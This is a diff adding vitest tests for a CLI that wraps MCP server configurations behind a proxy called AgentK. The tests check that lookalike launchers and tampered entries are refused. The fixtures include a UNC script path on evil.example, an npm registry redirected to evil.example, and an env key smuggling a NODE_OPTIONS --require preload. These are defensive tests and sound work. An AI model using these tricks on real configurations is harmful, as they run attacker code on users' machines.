@@ -5,7 +5,15 @@
 // wrapped; and the dry run hides env and header values however they are laid out.
 
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -135,6 +143,108 @@ describe('what counts as behind AgentK', () => {
   });
 });
 
+describe('only a launcher that is AgentK on this machine counts (review 2)', () => {
+  const kindIn = (file: string, entry: Record<string, unknown>) =>
+    entryKind(parseClientConfig(pretty({ mcpServers: { e: entry } }), file), 'e', file);
+  const outside = sample('{}').file; // a configuration in a project of its own
+  const notAgentk: Record<string, Record<string, unknown>> = {
+    relativeNode: { command: './node', args: [BIN, ...proxy('x')] },
+    pathNode: { command: 'tools/node', args: [BIN, ...proxy('x')] },
+    relativeNpx: { command: 'tools/npx', args: ['-y', 'agentk-kernel', ...proxy('x')] },
+    relativeAgentk: { command: 'bin/agentk.cmd', args: proxy('x') },
+    procCwd: { command: 'node', args: ['/proc/self/cwd/bin/agentk.js', ...proxy('x')] },
+    unc: { command: 'node', args: ['\\\\evil.example\\share\\bin\\agentk.js', ...proxy('x')] },
+    device: { command: 'node', args: ['\\\\?\\C:\\agentk\\bin\\agentk.js', ...proxy('x')] },
+    missing: { command: 'node', args: ['/nowhere/agentk/bin/agentk.js', ...proxy('x')] },
+    envFile: { command: 'agentk', args: proxy('x'), envFile: '.env' },
+  };
+  for (const [name, entry] of Object.entries(notAgentk)) {
+    it(`does not take ${name} for AgentK`, () => {
+      expect(kindIn(outside, entry).kind).not.toBe('proxied');
+    });
+  }
+
+  it('takes this AgentK, a link to it and an installed copy, but not one inside the project', () => {
+    expect(kindIn(outside, { command: 'node', args: [BIN, ...proxy('x')] }).kind).toBe('proxied');
+    const elsewhere = mkdtempSync(join(tmpdir(), 'agentk-wrap-trust-'));
+    mkdirSync(join(elsewhere, 'bin'));
+    symlinkSync(BIN, join(elsewhere, 'bin', 'agentk.js'));
+    const linked = { command: 'node', args: [join(elsewhere, 'bin', 'agentk.js'), ...proxy('x')] };
+    expect(kindIn(outside, linked).kind).toBe('proxied');
+    const installed = join(elsewhere, 'node_modules', 'agentk-kernel', 'bin');
+    mkdirSync(installed, { recursive: true });
+    writeFileSync(join(installed, 'agentk.js'), '');
+    const copy = { command: 'node', args: [join(installed, 'agentk.js'), ...proxy('x')] };
+    expect(kindIn(outside, copy).kind).toBe('proxied');
+    // The same files, read from a configuration of the project that holds them.
+    expect(kindIn(join(elsewhere, '.mcp.json'), linked).kind).toBe('stdio');
+    expect(kindIn(join(elsewhere, '.vscode', 'mcp.json'), copy).kind).toBe('stdio');
+    // Any other script named bin/agentk.js outside node_modules/agentk-kernel is not AgentK.
+    const other = mkdtempSync(join(tmpdir(), 'agentk-wrap-trust-'));
+    mkdirSync(join(other, 'bin'));
+    writeFileSync(join(other, 'bin', 'agentk.js'), '');
+    const script = { command: 'node', args: [join(other, 'bin', 'agentk.js'), ...proxy('x')] };
+    expect(kindIn(outside, script).kind).toBe('stdio');
+  });
+
+  it('wraps a lookalike launcher, saying a second AgentK in front would be harmless', async () => {
+    const entry = { command: './node', args: [BIN, ...proxy('x')] };
+    const { file } = sample(pretty({ mcpServers: { e: entry } }));
+    const ran = await runCli(['wrap', file]);
+    expect(ran.code, ran.stderr).toBe(0);
+    expect(ran.stdout).toMatch(/wrapped\s+e\s+server-id e; names agentk, but not as AgentK/);
+    expect(ran.stdout).toContain('AgentK in front of it again is harmless');
+    expect(servers(file).e?.args?.slice(-8)).toEqual(['./node', BIN, ...proxy('x')]);
+  });
+
+  it('refuses npx with an npm_config_* env name, which can point npx elsewhere', async () => {
+    const doc = {
+      mcpServers: {
+        e: {
+          command: 'npx',
+          args: ['-y', 'agentk-kernel', ...proxy('e')],
+          env: { NPM_CONFIG_REGISTRY: 'https://evil.example/' },
+        },
+      },
+    };
+    const text = pretty(doc);
+    const { file } = sample(text);
+    const ran = await runCli(['wrap', file]);
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toBe(
+      `agentk wrap: ${file}: mcpServers.e: runs AgentK through npx, but its env sets NPM_CONFIG_REGISTRY, which tells npx where and what to fetch; remove it, or wrap with --launcher node\n`,
+    );
+    expect(ran.stderr).not.toContain('evil.example');
+    expect(readFileSync(file, 'utf8')).toBe(text);
+  });
+
+  it('refuses an env key that is not a name: NODE_OPTIONS=… would set NODE_OPTIONS', async () => {
+    const key = 'NODE_OPTIONS=--require /tmp/evil.cjs --title';
+    const doc = {
+      mcpServers: {
+        behind: { command: 'agentk', args: proxy('behind'), env: { A: 'x', [key]: 'y' } },
+        plain: { command: 'srv', env: { [`B\u0000${SECRET}`]: 'y' } },
+        other: { command: 'srv' },
+      },
+    };
+    const { file } = sample(pretty(doc));
+    const ran = await runCli(['wrap', file]);
+    expect(ran.code).toBe(1);
+    const why =
+      'is not a variable name (A-Z a-z 0-9 _): a client would set what it spells out; fix it by hand';
+    expect(ran.stderr).toBe(
+      `agentk wrap: ${file}: mcpServers.behind: env key #2 ${why}\nagentk wrap: ${file}: mcpServers.plain: env key #1 ${why}\n`,
+    );
+    expect(ran.stdout).not.toContain('already behind AgentK');
+    expect(ran.stdout).toContain('2 refused, left as they are: see above');
+    expect(`${ran.stdout}${ran.stderr}`).not.toContain(SECRET);
+    const after = servers(file);
+    expect(after.behind).toEqual(doc.mcpServers.behind);
+    expect(after.plain).toEqual(doc.mcpServers.plain);
+    expect(after.other?.args?.slice(0, 2)).toEqual([BIN, 'mcp-proxy-stdio']);
+  });
+});
+
 describe('an env that would configure AgentK itself', () => {
   it('is refused: the NODE_OPTIONS preload of the review would run inside the kernel', async () => {
     const dir = mkdtempSync(join(tmpdir(), 'agentk-wrap-trust-'));
@@ -253,6 +363,24 @@ describe('the dry run hides env and header values, however they are laid out', (
       }
     });
   }
+
+  it('hides numbers, true, false and null too (review 2)', async () => {
+    const env = `"env": { "PIN": 987654321, "NEG": -4.5e3,\n  "ON": true, "OFF": false, "NONE": null }`;
+    const text = `{ "mcpServers": {\n"s": {\n"command": "srv",\n${env}\n}\n} }\n`;
+    const hidden = redactMembers(text, ['mcpServers'], ['env']);
+    expect(hidden).toContain(
+      '"env": { "PIN": "[redacted]", "NEG": "[redacted]",\n  "ON": "[redacted]", "OFF": "[redacted]", "NONE": "[redacted]" }',
+    );
+    expect(hidden).toContain('"command": "srv"');
+    // The review's case, through the dry run.
+    const doc = { mcpServers: { a: { env: { ON: true, DB_PIN: 987654321 }, command: 'srv' } } };
+    const { file } = sample(pretty(doc));
+    const ran = await runCli(['wrap', '--dry-run', file]);
+    expect(ran.code, ran.stderr).toBe(0);
+    expect(ran.stdout).toContain('"DB_PIN": "[redacted]"');
+    expect(ran.stdout).toContain('"ON": "[redacted]"');
+    expect(ran.stdout).not.toContain('987654321');
+  });
 
   it('prints no value laid out on the line after its key (the review case)', async () => {
     const { file } = sample(
